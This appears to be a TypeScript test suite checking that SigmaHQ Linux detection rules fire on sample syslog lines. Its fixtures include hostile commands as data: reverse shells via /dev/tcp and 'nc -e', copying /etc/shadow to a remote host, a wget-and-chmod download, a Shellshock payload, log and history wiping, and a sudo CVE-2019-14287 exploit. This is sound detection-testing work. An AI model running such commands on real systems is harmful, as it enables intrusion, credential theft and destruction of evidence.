/**
 * SigmaHQ's rules for Linux on lines as programs write them into syslog, and on real ones.
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { parseLine } from "../../src/decode/parse_line.ts";
import { RuleEngine } from "../../src/engine/engine.ts";
import { loadRules } from "../../src/runtime/load_rules.ts";
import type { DetectionRule } from "../../src/sigma/rule.ts";
import { CORPUS, skipWithoutCorpus } from "../support/corpus.ts";

const NOW = Date.UTC(2026, 10, 23);
const SETS = ["rules", "rules-emerging-threats", "rules-threat-hunting"];

const WITH_CORPUS = skipWithoutCorpus();
const RULES: readonly DetectionRule[] = WITH_CORPUS.skip !== false
  ? []
  : loadRules(SETS.map((set) => join(CORPUS, "sigma", set))).rules;
const ENGINE = new RuleEngine(RULES);

function fired(line: string): readonly string[] {
  const event = parseLine(line, "auto", { nowMs: NOW });
  return event === undefined ? [] : ENGINE.evaluate(event).map(({ rule_title: title }) => title);
}

/** A line of a file, and with a priority, as programs send it. */
function* linesOf(tag: string, message: string): Generator<string> {
  yield `Nov 22 10:11:12 web-1 ${tag}: ${message}`;
  yield `2026-11-22T10:11:12.123456+00:00 web-1 ${tag}: ${message}`;
  yield `<38>Nov 22 10:11:12 web-1 ${tag}: ${message}`;
  const [, program = tag, pid = "-"] = /^([^[]+)(?:\[(\d+)\])?$/.exec(tag) ?? [];
  yield `<38>1 2026-11-22T10:11:12Z web-1 ${program} ${pid} - - ${message}`;
}

const sudo = (command: string, user = "root"): readonly [string, string] => [
  "sudo",
  `ann : TTY=pts/0 ; PWD=/home/ann ; USER=${user} ; COMMAND=${command}`,
];
const cron = (command: string): readonly [string, string] => [
  "CRON[711]",
  `(root) CMD (${command})`,
];

/** Titles of rules for logs of Linux, and a message that each is for. */
const BUILTIN: readonly (readonly [title: string, ...messages: (readonly [string, string])[]])[] = [
  [
    "Guacamole Two Users Sharing Session Anomaly",
    ["guacd[99]", 'User "@b9a7" joined connection "$5c1e" (2 users now present)'],
  ],
  ["Relevant ClamAV Message", ["clamd[99]", "/srv/x.exe: Win.Trojan.Agent-1 FOUND"]],
  [
    "Linux Command History Tampering",
    cron("cat /dev/null > /root/.bash_history"),
    sudo("/usr/bin/shred -u /root/.bash_history"),
  ],
  [
    "Suspicious VSFTPD Error Messages",
    [
      "vsftpd[99]",
      'CONNECT: Client "192.0.2.1", "Connection refused: too many sessions for this address."',
    ],
  ],
  [
    "Suspicious Named Error",
    ["named[99]", "client 192.0.2.1#53 dropping source port zero packet from 192.0.2.1#0"],
    ["named[99]", "general: critical: exiting (due to fatal error)"],
  ],
  [
    "Disabling Security Tools - Builtin",
    ["systemd[1]", "Stopping firewalld - dynamic firewall daemon..."],
    ["systemd[1]", "Stopping falcon-sensor.service - CrowdStrike Falcon Sensor..."],
  ],
  ["Modifying Crontab", ["crontab[99]", "(ann) REPLACE (ann)"]],
  ["Commands to Clear or Remove the Syslog - Builtin", cron("rm -f /var/log/syslog")],
  ["Suspicious Use of /dev/tcp", cron("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")],
  ["Shellshock Expression", ["dhclient[99]", "domain-name: () { :;}; /bin/id"]],
  [
    "Suspicious OpenSSH Daemon Error",
    ["sshd[99]", "error: Corrupted MAC on input. [preauth]"],
    [
      "sshd-session[99]",
      "ssh_dispatch_run_fatal: Connection from 192.0.2.1 port 22: error in libcrypto [preauth]",
    ],
  ],
  ["Suspicious Reverse Shell Command Line", cron("nc -e /bin/sh 192.0.2.1 4444")],
  ["Remote File Copy", sudo("/usr/bin/scp /etc/shadow ann@192.0.2.1:/tmp")],
  ["Symlink Etc Passwd", cron("ln -s -f /etc/passwd /tmp/x")],
  ["Equation Group Indicators", cron("cp /etc/shadow /tmp/.x")],
  ["JexBoss Command Sequence", cron("bash -c /bin/bash 0</dev/tcp/1 >&/dev/tcp/192.0.2.1/1")],
  [
    "Potential Suspicious BPF Activity - Linux",
    [
      "kernel",
      "[42.1] x[9] is installing a program with bpf_probe_write_user helper that may corrupt user memory!",
    ],
  ],
  ["Code Injection by ld.so Preload", sudo("/usr/bin/tee /etc/ld.so.preload")],
  ["Suspicious Activity in Shell Commands", cron("wget http://192.0.2.1/x; chmod +x x")],
  ["Buffer Overflow Attempts", ["x[99]", "*** stack smashing detected ***: terminated"]],
  [
    "Privileged User Has Been Created",
    ["useradd[99]", "new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"],
  ],
  [
    "Suspicious Log Entries",
    ["kernel", "[42.1] device eth0 entered promiscuous mode"],
    ["rsyslogd", "imuxsock begins to drop messages from pid 99 due to rate-limiting"],
    ["xinetd[99]", "Deactivating service ftp due to excessive incoming connections."],
  ],
  [
    "Sudo Privilege Escalation CVE-2019-14287 - Builtin",
    sudo("/usr/bin/id", "#-1"),
    sudo("/usr/bin/id", "#4294967295"),
  ],
  ["Potential CVE-2023-2283 Exploitation", ["sshd[99]", "Failed to generate curve25519 keys"]],
  [
    "SSHD Error Message CVE-2018-15473",
    [
      "sshd[99]",
      "error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]",
    ],
  ],
  [
    "Potential Nimbuspwn Exploit CVE-2022-29799 and CVE-2022-27800",
    [
      "networkd-dispatcher[99]",
      "ERROR:Error handling notification for interface 'x' entering operational state ../../tmp/x",
    ],
  ],
  [
    "PwnKit Local Privilege Escalation",
    [
      "pkexec[99]",
      "ann: The value for environment variable XAUTHORITY contains suspicious content [USER=root] " +
      "[TTY=/dev/pts/0] [CWD=/home/ann] [COMMAND=/x]",
    ],
  ],
];

/** A choice of the rules for processes: what sudo, pkexec and cron start is one. */
const PROCESSES: typeof BUILTIN = [
  ["Linux Doas Tool Execution", sudo("/usr/bin/doas id")],
  [
    "Shell Invocation via Apt - Linux",
    sudo("/usr/bin/apt update -o APT::Update::Pre-Invoke::=/bin/sh"),
  ],
  ["Potential Linux Process Code Injection Via DD Utility", sudo("/usr/bin/dd of=/proc/1/mem")],
  ["Local System Accounts Discovery - Linux", sudo("/usr/bin/lastlog")],
  [
    "Linux Logs Clearing Attempts",
    sudo("/usr/bin/rm -rf /var/log/journal"),
    cron("/bin/rm /var/log/auth.log"),
  ],
  ["File and Directory Discovery - Linux", sudo("/usr/bin/find / -perm -4000")],
  ["User Added To Root/Sudoers Group Using Usermod", sudo("/usr/sbin/usermod -aG root x")],
  ["Scheduled Cron Task/Job - Linux", sudo("/usr/bin/crontab /tmp/x")],
  ["Disable Or Stop Services", sudo("/usr/bin/systemctl stop rsyslog")],
  ["Linux Package Uninstall", sudo("/usr/bin/apt remove auditd")],
  [
    "Sudo Privilege Escalation CVE-2019-14287",
    sudo("/usr/bin/sudo -u#-1 id"),
    [
      "pkexec[99]",
      "ann: Executing command [USER=root] [TTY=x] [CWD=/] [COMMAND=/usr/bin/sudo -u#-1 id]",
    ],
  ],
];

for (const [title, ...messages] of [...BUILTIN, ...PROCESSES]) {
  test(`"${title}" fires on lines of syslog`, WITH_CORPUS, () => {
    for (const [tag, message] of messages) {
      for (const line of linesOf(tag, message)) {
        assert.ok(fired(line).includes(title), `${line}\n${fired(line).join("\n")}`);
      }
    }
  });
}

test(
  "every rule for a log of Linux other than the audit log is tried here",
  WITH_CORPUS,
  () => {
    const expected = RULES
      .filter(({ logsource: { product, category, service } }) =>
        product === "linux" && category === undefined && service !== "auditd"
      )
      .map(({ title }) => title);
    const tried = new Set(BUILTIN.map(([title]) => title));
    assert.ok(expected.length >= 27);
    assert.deepEqual(expected.filter((title) => !tried.has(title)), []);
  },
);

test("a command that was refused is no process", WITH_CORPUS, () => {
  const refused =
    "Nov 22 10:11:12 web-1 sudo: ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; " +
    "COMMAND=/usr/bin/doas id";
  assert.ok(!fired(refused).includes("Linux Doas Tool Execution"));
});

/** Lines of a file and the rules for Linux that fire on them, with how often. */
const REAL: readonly (readonly [string, Readonly<Record<string, number>>])[] = [
  ["OpenSSH_2k.log", {}],
  ["Linux_2k.log", {}],
  ["Mac_2k.log", {}],
  // `file=/etc/xinetd.d/gssftp`: the rule looks for `sftp ` and a colon. Lines without a format are
  // offered to every rule.
  ["Thunderbird_2k.log", { "Remote File Copy": 2 }],
];

for (const [file, expected] of REAL) {
  test(`rules for Linux on ${file}`, WITH_CORPUS, () => {
    const linux = new Set(
      RULES.filter(({ logsource }) => logsource.product === "linux")
        .map(({ title }) => title),
    );
    const counts: Record<string, number> = {};
    for (const line of readFileSync(join(CORPUS, "syslog", file), "utf8").split(/\r?\n/)) {
      for (const title of fired(line)) {
        if (linux.has(title)) counts[title] = (counts[title] ?? 0) + 1;
      }
    }
    assert.deepEqual(counts, expected);
  });
}

test("nearly every line of sshd in the corpus is opened", WITH_CORPUS, () => {
  const text = readFileSync(join(CORPUS, "syslog", "OpenSSH_2k.log"), "utf8");
  const events = text.split(/\r?\n/).map((line) => parseLine(line, "auto", { nowMs: NOW }))
    .filter((event) => event !== undefined);
  assert.equal(events.length, 2000);
  for (const { logsource } of events) assert.equal(logsource, events[0]!.logsource);
  const opened = events.filter((event) => "_event" in (event.toValue() as object));
  assert.ok(opened.length >= 1990, `${opened.length} of 2,000 lines`);
});
